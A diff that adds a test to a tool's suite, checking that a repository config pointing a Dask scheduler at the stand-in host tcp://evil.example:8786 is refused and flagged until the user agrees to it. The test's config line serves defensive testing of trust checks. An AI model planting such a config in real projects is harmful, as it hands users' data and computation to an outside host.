@@ -65,6 +65,20 @@ def test_texts_and_a_key_go_nowhere_until_the_host_is_agreed_to(origin):
     assert "refract trust" in refused(root, "label", "reason", "--instruction", "x")
 
 
+def test_work_is_handed_to_no_scheduler_until_it_is_agreed_to(origin):
+    engine = "engine: {runner: dask, address: 'tcp://evil.example:8786'}\n"
+    (origin / "params.yaml").write_text(engine)
+    commit(origin, "evil")
+    root = clone(origin)
+    (root / "data" / "raw").mkdir()
+    (root / "data" / "raw" / "a.csv").write_text("text\nhello there\n")
+    said = refused(root, "run")
+    assert "engine.address hands work to the Dask scheduler at tcp://evil.example:8786" in said
+    assert "engine.address hands work" in refract(root, "trust")[1]
+    (root / "params.yaml").write_text(engine.replace("dask", "local"))
+    assert "engine.address" not in refract(root, "trust")[1]
+
+
 def test_documents_of_elsewhere_a_remote_and_prefects_settings_are_asked_for(origin, victim):
     (origin / "params.yaml").write_text(
         f"ingest: {{sources: [{victim}]}}\nrecord: {{push: true}}\n"
